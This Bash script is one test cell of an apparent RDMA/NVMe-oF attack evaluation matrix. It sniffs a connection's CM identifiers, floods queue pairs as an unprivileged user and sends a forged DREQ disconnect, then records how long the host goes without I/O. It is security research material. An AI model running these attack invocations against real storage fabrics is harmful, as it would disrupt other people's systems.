# SPDX-License-Identifier: MIT
# NeVerMore 5.2.6 (cm-disconnect-exhaust): the forged disconnect of 5.2.5
# run together with local exhaustion (4.4), so that the host cannot build
# the QPs it needs to reconnect. A row of its own rather than a mode of the
# exhaust row: that row measures a service refusing new clients, this one
# how long an NVMe-oF host stays without I/O when both attacks meet, and it
# needs the rdma_cm learner of cm-disconnect.
# nvmf: host 3 learns the first NVMe-oF connection's communication IDs from
# its cleartext CM REQ/REP; once fio runs, an unprivileged process on host 2
# (user nobody) creates QPs on rxe2 until refused and holds them; then host 3
# sends the host a DREQ as if from the target. Evidence: the host's
# disconnect and reconnect lines, the longest stretch without I/O, and the
# QPs the flood held. Other victims: nothing reconnects by itself after a
# disconnect (the cm-disconnect row covers their disconnect).
. "$(dirname "${BASH_SOURCE[0]}")/common.bash"
. "$(dirname "${BASH_SOURCE[0]}")/nvmf.bash"

# _cde_field KEY: a member of the learner's JSON.
_cde_field() {
	sed -n "s/.*\"$1\":\"\\{0,1\\}\\([^\",]*\\).*/\\1/p" "$CELL/learn.json"
}

cell_cm_disconnect_exhaust() {
	local v=$1 lp fp t0 t1 held gap down up
	if [ "$v" != nvmf ]; then
		matrix_result cm-disconnect-exhaust "$v" not-applicable \
			"no reconnection to prevent: only the NVMe-oF host reconnects by itself after a disconnect" \
			"$v ends on a disconnect (the cm-disconnect row); exhaustion has nothing to hold off"
		return
	fi
	fabric on 3 "$ATK" cm-disconnect --dst "$VICTIM_CLIENT_IP" --src "$VICTIM_SERVER_IP" --sniff fabbr --iface fab3 \
		--timeout 200 --no-send --json >"$CELL/learn.json" 2>"$CELL/learn.err" &
	lp=$!
	for _ in $(seq 1 100); do grep -q listening "$CELL/learn.err" 2>/dev/null && break; sleep 0.2; done
	# fio must outlast the flood, which takes over a minute on a loaded machine.
	CELL_NVMF_SECONDS=200
	cell_nvmf_start cm-disconnect-exhaust || { kill "$lp" 2>/dev/null; return; }
	wait "$lp"
	if ! grep -q '"learned":true' "$CELL/learn.json"; then
		matrix_result cm-disconnect-exhaust "$v" error "" "no CM REQ/REP of the NVMe-oF connection seen: $(tail -n 1 "$CELL/learn.err")"
		victim_stop
		return
	fi
	# The flood: as nobody, up to 8000 QPs on rxe2 (one process tops out near
	# 32665, vm.max_map_count; 8000 keep the cell within minutes on a loaded
	# machine and already show rxe's limit is elsewhere), held 20 s.
	fabric on 2 setpriv --reuid=65534 --regid=65534 --clear-groups "$ATK" exhaust --local -d rxe2 --objects qp \
		--max 8000 --hold 20 --no-victim --json >"$CELL/flood.json" 2>"$CELL/flood.err" &
	fp=$!
	for _ in $(seq 1 600); do grep -q holding "$CELL/flood.err" 2>/dev/null && break; kill -0 $fp 2>/dev/null || break; sleep 0.2; done
	held=$(grep -m1 -o '[0-9]* qp[s]* created in [0-9.]* s' "$CELL/flood.err")
	read -r t0 _ </proc/uptime
	fabric on 3 "$ATK" cm-disconnect --dst "$VICTIM_CLIENT_IP" --src "$VICTIM_SERVER_IP" \
		--local-comm-id "$(_cde_field local_comm_id)" --remote-comm-id "$(_cde_field remote_comm_id)" \
		--remote-qpn "$(_cde_field remote_qpn)" --count 3 --iface fab3 --json >"$CELL/attack.json" 2>"$CELL/attack.err"
	# The flood holds 20 s; the host reconnects every second meanwhile, or not.
	for _ in $(seq 1 60); do
		up=$(cell_nvmf_host_line "$t0" 'Successfully reconnected|new ctrl') && break
		kill -0 $fp 2>/dev/null || break
		sleep 0.5
	done
	# Until I/O came back (2 s after the reconnect line), or the flood ended.
	[ -n "$up" ] && sleep 2
	read -r t1 _ </proc/uptime
	down=$(cell_nvmf_host_line "$t0") || down=''
	[ -n "$up" ] || up=$(cell_nvmf_host_line "$t0" 'Successfully reconnected|new ctrl') || up=''
	victim_attack_done
	wait $fp
	gap=$(cell_nvmf_stall "$t0" "$t1")
	victim_stop
	if [ -z "$down" ]; then
		matrix_result cm-disconnect-exhaust "$v" error "" "the host showed no disconnect after the forged DREQ; flood: ${held:-$(tail -n 1 "$CELL/flood.err")}"
	elif [ -n "$up" ] && grep -q holding "$CELL/flood.err"; then
		matrix_result cm-disconnect-exhaust "$v" blocked \
			"rxe's QP limit (max_qp 1048560) is far beyond what an unprivileged process holds (vm.max_map_count stops one near 32665): the host reconnected during the flood" \
			"$down; $up; flood (nobody): ${held:-?}, held; longest stretch without I/O after the DREQ ${gap} s"
	elif [ -z "$up" ]; then
		matrix_result cm-disconnect-exhaust "$v" succeeded "" \
			"$down; no reconnect while the flood (${held:-?}) held; longest stretch without I/O after the DREQ ${gap} s"
	else
		matrix_result cm-disconnect-exhaust "$v" error "" "$down; $up; the flood never held: $(tail -n 1 "$CELL/flood.err")"
	fi
}
